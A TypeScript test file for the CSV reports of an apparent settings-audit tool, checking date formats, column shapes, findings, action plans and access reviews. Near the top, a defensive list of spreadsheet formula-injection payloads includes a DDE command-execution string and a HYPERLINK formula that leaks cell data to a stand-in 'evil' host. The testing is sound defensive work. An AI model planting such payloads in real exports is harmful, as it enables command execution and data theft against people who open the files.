// lane: long
// The CSV tables, read by a spreadsheet's rules and by a CSV parser.
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import type { Report } from "../../src/model/report/index.ts";
import { accessCsv } from "../../src/reporters/csv/access-csv.ts";
import { csv } from "../../src/reporters/csv/index.ts";
import { findingsCsv } from "../../src/reporters/csv/findings-csv.ts";
import { planCsv } from "../../src/reporters/csv/plan-csv.ts";
import { sampleCsv } from "../../src/reporters/csv/sample-csv.ts";
import { secretsCsv } from "../../src/reporters/csv/secrets-csv.ts";
import { ocsf } from "../../src/reporters/ocsf.ts";
import { whole } from "../../src/reporters/pieces.ts";
import { valueText } from "../../src/reporters/wording/values.ts";
import { spreadsheet, visible } from "../../src/text.ts";
import { hourly, judge } from "../support/history.ts";
import { runs } from "../support/runs.ts";
import { attacks, broken, drifted, finding, hostile, idOf, incomplete, manyRevisions } from "./fixture.ts";
import { acts, readSheet, type Row, unquoted } from "./spreadsheet.ts";
import { anyText } from "../support/any-text.ts";

const tables = { csv, findingsCsv, planCsv, accessCsv, secretsCsv };
const columns = (rows: readonly Row[], ...names: string[]) => rows.map((row) => names.map((name) => row[name]));

/** Texts that some spreadsheet executes, or once misinterpreted. */
const formulas = [
  "=1+1",
  "+1",
  "-1+cmd|' /C calc'!A0",
  "@SUM(A1)",
  "\t=1",
  "\r=1",
  " =1",
  "\uff1d1",
  "\ufe661",
  '"=1"',
  "a\n=1",
  ";=1",
  "a;=1",
  'a; "=1',
  '=HYPERLINK("http://evil?"&A1)',
  "|calc",
  "%0A=1",
  "\ufeff=1",
  "\u0000=1",
  "'=1",
  "''=1",
  "\u22121",
];

describe("a cell", () => {
  it.each(formulas)("holds no formula: %j", (text) => {
    const cell = spreadsheet(text);
    expect(cell).not.toMatch(acts);
    expect(unquoted(cell)).toBe(visible(text));
  });

  it("never holds one, and gives back what it was made of", () => {
    const part = fc.constantFrom(...formulas, "=", "'", '"', ";", " ", "a", "\\u{3b}", "＝", ",");
    const text = fc.oneof(
      anyText(),
      fc.array(part).map((parts) => parts.join("")),
    );
    fc.assert(
      fc.property(text, (text) => {
        const cell = spreadsheet(text);
        expect(cell).not.toMatch(acts);
        expect(unquoted(cell)).toBe(visible(text));
      }),
      { numRuns: runs(700) },
    );
  });

  it("of a value differs from that of every other value", () => {
    const values = [null, "", "not set", "null", "true", true, 1, "1", [], "[]", {}, ["a,b"], ["a", "b"], '"a"', "a"];
    const secret = { $secret: "literal", fingerprint: "fp:run:1" };
    const texts = [...values, secret, "[secret fp:run:1]"].map(valueText);
    expect(new Set(texts).size).toBe(texts.length);
    expect(valueText([secret])).toBe('["[secret fp:run:1]"]');
  });

  it("is cut before a spreadsheet would cut it, and says so", () => {
    for (const letter of ["x", "\u202e", "\u{1f600}", ";=", "漢"]) {
      const [row] = readSheet(
        planCsv({ ...drifted(), findings: [finding(1, { message: letter.repeat(40_000) })] }),
      ).rows;
      const text = row!["finding"]!;
      expect(text.length).toBeLessThanOrEqual(32_767);
      expect(text).toMatch(/… \([\d,]+ characters; the JSON report has all of them\)$/);
      expect(text).not.toMatch(/\p{Surrogate}|\\(?:u(?:\{[0-9a-f]*)?)?…/u);
    }
  });
});

describe.each(Object.entries(tables))("%s", (_, render) => {
  it("has moments as spreadsheets read dates, in UTC as the names of their columns say", () => {
    const { names, rows } = readSheet(render(drifted()));
    const moments = names.filter((name) => name.endsWith("_utc"));
    expect(moments).toContain("as_of_utc");
    for (const row of rows)
      for (const name of names)
        expect(row[name]).toMatch(
          moments.includes(name) ? /^(?:\d{4}-\d\d-\d\d \d\d:\d\d:\d\d)?$/ : /^(?!\d{4}-\d\d-\d\dT)/,
        );
  });

  it("holds no formula, wherever the text comes from", () => {
    const check = (text: string) => {
      for (const row of readSheet(render(hostile(drifted(), [text]))).rows)
        for (const cell of Object.values(row)) if (!/^-?\d+$/.test(cell)) expect(cell).not.toMatch(acts);
    };
    for (const text of [...attacks, ...formulas]) check(text);
    fc.assert(
      fc.property(anyText(), (text) => check(text)),
      { numRuns: runs(40) },
    );
  });

  it("has the same rows and columns whatever the texts are", () => {
    const shape = (report: Report) => {
      const { names, rows } = readSheet(render(report));
      return [names, rows.length];
    };
    for (const text of [...attacks, ...formulas]) expect(shape(hostile(drifted(), [text]))).toEqual(shape(drifted()));
  });

  it("says the verdict on every row, and on one row alone where there is no other", () => {
    for (const report of [drifted(), broken(), incomplete()]) {
      const { rows } = readSheet(render(report));
      expect(rows.length).toBeGreaterThan(0);
      for (const row of rows)
        expect([row["organization"], row["as_of_utc"], row["verdict"]]).toEqual([
          report.organization,
          "2026-11-20 00:00:00",
          report.verdict,
        ]);
    }
    expect(readSheet(render(incomplete())).rows).toHaveLength(1);
  });
});

describe("the change register", () => {
  it("has one row for each revision and setting", () => {
    const report = manyRevisions(1000);
    const changes = report.revisions.flatMap(({ revision, at, by, changes }) =>
      changes.map(({ subject, op, direction, before, after }) => [
        String(revision),
        `${at.slice(0, 10)} ${at.slice(11, 19)}`,
        by.id,
        by.email,
        by.name ?? "",
        subject,
        op,
        direction,
        valueText(before),
        valueText(after),
      ]),
    );
    const names = [
      "revision",
      "at_utc",
      "editor_id",
      "editor_email",
      "editor_name",
      "pointer",
      "op",
      "direction",
      "before",
    ];
    expect(columns(readSheet(csv(report)).rows, ...names, "after")).toEqual(changes);
  });

  it("says which rules govern the setting, who agreed, and what the change opened and closed", () => {
    const names = ["setting", "editor_listed", "added", "approval", "approval_result", "rules", "opened", "closed"];
    const windows = `${idOf(3)} ${idOf(4)}`;
    // Findings on another setting or the editor are at every change of the revision; others only at their own.
    const others = [5, 6, 7].map(idOf).join(" ");
    expect(columns(readSheet(csv(drifted())).rows, ...names)).toEqual([
      ["sandbox.enabled", "yes", "", "", "", "", windows, ""],
      ["sandbox.enabled", "yes", "", "CHG-7", "authorized", "", "", windows],
      ["customModels.custom:llm.apiKey", "yes", "", "", "", "", "", ""],
      [
        "modelPolicy.allowedModelIds",
        "no",
        '["gpt-x-preview"]',
        "",
        "",
        "models/modelPolicy.allowedModelIds",
        `${idOf(1)} ${others}`,
        "",
      ],
      ["wikiCloudSync", "no", "", "", "", "", others, ""],
    ]);
  });

  it("shows what is as new as asked for, and says what it leaves out", () => {
    const report = { ...drifted(), view: { reportSeverity: null, since: "5", failOn: "high" as const } };
    const { rows } = readSheet(csv(report));
    expect(columns(rows, "revision")).toEqual([["5"], ["5"]]);
    expect(rows[0]!["not_shown"]).toMatch(/3 revisions before revision 5 are not shown/);
  });
});

describe("the findings", () => {
  it("are one row each, with who began and who ended them", () => {
    const { rows } = readSheet(findingsCsv(drifted()));
    expect(columns(rows, "id", "status")).toEqual(drifted().findings.map(({ id, status }) => [id, status]));
    expect(rows[2]).toMatchObject({
      introduced_revision: "2",
      introduced_by_email: "bo@example.com",
      resolved_revision: "3",
      resolved_by_email: "ada@example.com",
      exposure_seconds: "11700",
      exposure: "was open 3 h 15 min",
      since_last: "resolved",
      policy_file: "policies/sandbox.yaml",
      policy_line: "4",
    });
    expect(rows[0]!["expected"]).toBe("only gpt-5 or gpt-5-mini");
    expect(rows[5]).toMatchObject({
      exception_owner: "ada@example.com",
      actual: "[secret fp:run:2]",
      severity: "medium",
    });
  });

  it("keep numbers numbers, and texts that look like numbers texts", () => {
    const text = whole(findingsCsv({ ...drifted(), findings: [finding(1, { exposureSeconds: 5, title: "5" })] }));
    expect(text).toContain(",5,");
    expect(text).toContain(',"5",');
  });
});

describe("the action plan", () => {
  it("has no time of a revision for what no revision brought", () => {
    const introduced = { revision: null, at: "2026-03-05T00:00:00.000Z", by: null, exact: false };
    const used = finding(1, { kind: "usage", subject: "usage/mcp/figma", introduced, values: [] });
    const { rows } = readSheet(planCsv({ ...drifted(), findings: [used] }));
    expect(columns(rows, "since_utc", "revision", "revision_at_utc")).toEqual([["2026-03-05 00:00:00", "", ""]]);
  });

  it("has what is open, worst first, with nothing filled in that people decide", () => {
    const { rows } = readSheet(planCsv(drifted()));
    expect(columns(rows, "severity", "rule", "editor", "remedy")).toEqual([
      [
        "high",
        "models/modelPolicy.allowedModelIds",
        "mallory@example.net",
        "Remove gpt-x-preview from modelPolicy.allowedModelIds.",
      ],
      [
        "high",
        "editors/unapproved",
        "mallory@example.net",
        "Have the revision reviewed; then add the editor to the policy.",
      ],
      ["medium", "autonomy/maxAutonomyLevel", "not known", "Set maxAutonomyLevel to medium."],
      ["low", "integrity/revision-gap", "not known", ""],
    ]);
    for (const row of rows)
      for (const name of ["decision", "reason", "responsible", "target_date", "ticket", "completed_on"])
        expect(row[name]).toBe("");
  });
});

describe("a finding of several revisions with a gap", () => {
  const rows = hourly({ maxAutonomyLevel: "high" }, { maxAutonomyLevel: "medium" });
  const history = rows.map((row, i) => ({ ...row, revision: [1, 3][i]! }));

  it("has in the action plan the revision in which the present value was first seen", async () => {
    const report = await judge(history, "id: p\nsettings: { maxAutonomyLevel: { atMost: low } }\n");
    const plan = readSheet(planCsv(report)).rows.filter(({ rule }) => rule === "p/maxAutonomyLevel");
    expect(columns(plan, "editor", "revision", "opened_by", "opened_revision")).toEqual([
      ["not known", "3", "not known", "1"],
    ]);
    expect(plan[0]!["revision_at_utc"]).not.toBe(plan[0]!["since_utc"]);
  });

  it("has in the sample the revisions that may have made the change", async () => {
    const report = await judge(history);
    const sample = { seed: "a", size: 1, of: 1, changes: [{ revision: 3, subject: "/maxAutonomyLevel" }] };
    const { rows } = readSheet(sampleCsv({ ...report, sample }));
    expect(columns(rows, "revision", "missing_before")).toEqual([["3", "revision 2 is missing"]]);
  });

  it("has a name where it is about all settings together", async () => {
    const schema = "schema: { required: [sandbox] }";
    const report = await judge(history, `id: p\nassertions: [{ id: boxed, title: The sandbox is set, ${schema} }]\n`);
    for (const table of [planCsv, findingsCsv]) {
      const found = readSheet(table(report)).rows.filter(({ rule }) => rule === "p/boxed");
      expect(columns(found, "subject")).toEqual([["the settings as a whole"]]);
    }
    expect(whole(ocsf(report))).toContain('"name":"the settings as a whole"');
  });
});

describe("the access review", () => {
  it("has everybody that a setting names, everyone and nobody, and everybody who changed the controls", () => {
    const { rows } = readSheet(accessCsv(drifted()));
    expect(columns(rows, "basis", "who", "may", "limited_to", "since_revision", "granted_by", "exact")).toEqual([
      ["setting", "user_01ADA", "Who may start missions.", "", "3", "ada@example.com", "yes"],
      ["setting", "(nobody)", "Who may use hosted computers.", "", "1", "not known", "no"],
      ["setting", "user_01BO", "The models that this user may use.", '["gpt-5"]', "2", "bo@example.com", "yes"],
      ["history", "ada@example.com", "Changed the controls.", "", "", "", ""],
      ["history", "bo@example.com", "Changed the controls.", "", "", "", ""],
      ["history", "mallory@example.net", "Changed the controls.", "", "", "", ""],
    ]);
  });

  it("does not say that all editors are listed where no policy lists editors", () => {
    const report = drifted();
    const revisions = report.revisions.map((row) => ({ ...row, approved: null }));
    const { rows } = readSheet(accessCsv({ ...report, revisions }));
    expect(columns(rows.slice(-1), "because")).toEqual([["1 revision, not judged whether listed, 1 looser"]]);
    expect(columns(readSheet(accessCsv(report)).rows.slice(-1), "because")).toEqual([
      ["1 revision, 1 not listed, 1 looser"],
    ]);
  });

  it("has the address of everybody who is known, also of an entry that is one itself", () => {
    const report = drifted();
    const [grant] = report.access;
    const who = ["user_01ADA", "new@partner.example", "*@partner.example", "Bo@example.com"];
    const { rows } = readSheet(accessCsv({ ...report, access: who.map((item) => ({ ...grant!, who: item })) }));
    expect(columns(rows.slice(0, 4), "who", "email")).toEqual([
      ["user_01ADA", "ada@example.com"],
      ["new@partner.example", "new@partner.example"],
      ["*@partner.example", ""],
      ["Bo@example.com", "bo@example.com"],
    ]);
  });

  it("says of everybody who is not on the list of members that they are no member", () => {
    const report = drifted();
    const [grant] = report.access;
    const access = ["user_01ADA", "user_gone", "gone@partner.example", "user_*"].map((who) => ({ ...grant!, who }));
    const ada = { id: "user_01ADA", email: "ada@example.com", lastSignInAt: null, lastDay: null, grants: [] };
    const person = { ...ada, overrides: {}, credits: null, highest: null };
    const members = (member: boolean | null) =>
      columns(readSheet(accessCsv({ ...report, access, people: [{ ...person, member }] })).rows, "who", "member");
    expect(members(true)).toEqual([
      ["user_01ADA", "yes"],
      ["user_gone", "no"],
      ["gone@partner.example", "no"],
      ["user_*", ""],
      ["ada@example.com", "yes"],
      ["bo@example.com", "no"],
      ["mallory@example.net", "no"],
    ]);
    // Members were not requested.
    expect(members(null).filter(([, member]) => member !== "")).toEqual([]);
  });

  it("says so of an editor who is not known", async () => {
    const { rows } = readSheet(accessCsv(await judge(hourly({ by: { id: null, email: null, name: null }, set: {} }))));
    expect(columns(rows, "basis", "who").filter(([basis]) => basis === "history")).toEqual([
      ["history", "an unknown editor"],
    ]);
  });

  it("leaves nobody out for a severity or a time", () => {
    const view = { reportSeverity: "critical", since: "999999", failOn: "high" } as const;
    expect(readSheet(accessCsv({ ...drifted(), view })).rows).toHaveLength(6);
  });
});

it("leaves the value before empty where nobody saw it", () => {
  const before = (exact: boolean, value: string | null) => {
    const { introduced } = finding(1, {});
    const item = finding(1, { exposureSeconds: 60, before: value, introduced: { ...introduced, exact } });
    return columns(readSheet(whole(findingsCsv({ ...drifted(), findings: [item] }))).rows, "before");
  };
  expect([before(true, null), before(false, null), before(false, "low")]).toEqual([[["not set"]], [[""]], [["low"]]]);
});

it("leaves the value empty of a finding that is about none", () => {
  const actual = (subject: string) =>
    columns(
      readSheet(whole(findingsCsv({ ...drifted(), findings: [finding(1, { subject, actual: null })] }))).rows,
      "actual",
    );
  expect([actual("rule:p/x"), actual("revision:4"), actual("/maxAutonomyLevel")]).toEqual([
    [[""]],
    [[""]],
    [["not set"]],
  ]);
});
